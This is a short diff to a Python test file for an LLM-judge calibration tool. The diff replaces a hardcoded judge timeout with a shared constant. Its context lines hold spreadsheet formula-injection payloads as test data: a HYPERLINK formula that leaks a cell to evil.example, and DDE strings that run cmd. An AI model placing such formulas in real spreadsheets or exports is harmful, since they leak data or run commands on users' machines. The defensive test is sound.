@@ -19,7 +19,7 @@ from click.testing import CliRunner
 from scarbook.cli import main
 from scarbook.judge.calibrate import CalibrationStore
 from scarbook.judge.label_files import guard_cell, unguard_cell
-from tests.helpers.judge_server import judge_server, tool_reply  # noqa: F401
+from tests.helpers.judge_server import JUDGE_TIMEOUT_S, judge_server, tool_reply  # noqa: F401
 
 ARTIFACT = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")'
 ITEMS = ['=HYPERLINK("http://evil.example","x")', '+cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0',
@@ -46,7 +46,7 @@ def _project(root: Path, url: str) -> None:
         runs: 2
         concurrency: 1
         gate: {{mode: point}}
-        judge: {{model: claude-sonnet-4-6, base_url: {url}, max_retries: 0, timeout_s: 5, cache: false}}
+        judge: {{model: claude-sonnet-4-6, base_url: {url}, max_retries: 0, timeout_s: {JUDGE_TIMEOUT_S}, cache: false}}
         """))
     (root / "cases" / "c").mkdir(parents=True)
     rubric = "\n".join(f"      - {json.dumps(item)}" for item in ITEMS)
